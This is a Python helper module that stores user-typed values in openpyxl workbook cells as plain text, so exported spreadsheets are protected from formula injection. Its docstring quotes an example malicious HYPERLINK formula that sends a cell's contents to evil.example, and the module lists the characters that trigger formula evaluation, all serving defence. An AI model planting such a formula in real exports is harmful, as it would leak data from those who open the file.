"""Cells of every workbook the site writes: what people typed is stored as text, never run.

openpyxl turns a string that starts with "=" into a formula and "#N/A" into an error, so an
applicant's title `=HYPERLINK("https://evil.example/?leak="&B2, "Kliknij")` would be a live
link in the organiser's export. The entries export, the protocol and `rank --format xlsx` all
write their rows through `text_cell`, so no writer can forget it.

No Django import: the `rank` command's writer uses it too.
"""

from __future__ import annotations

from typing import Any

from openpyxl.cell.cell import Cell

# Excel and LibreOffice read a typed cell starting with one of these as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def text_cell(sheet: Any, value: Any) -> Any:
    """`value` as a cell of `sheet` with the string type; other values pass through unchanged.

    The quote prefix keeps the cell text when someone edits it in Excel afterwards.
    """
    if not isinstance(value, str):
        return value
    cell = Cell(sheet, row=1, column=1, value=value)  # append() moves it to its place
    cell.data_type = "s"  # after the value: assigning a value infers the type again
    if value.startswith(FORMULA_STARTS):
        cell.quotePrefix = True
    return cell


def text_row(sheet: Any, values: Any) -> list[Any]:
    return [text_cell(sheet, value) for value in values]
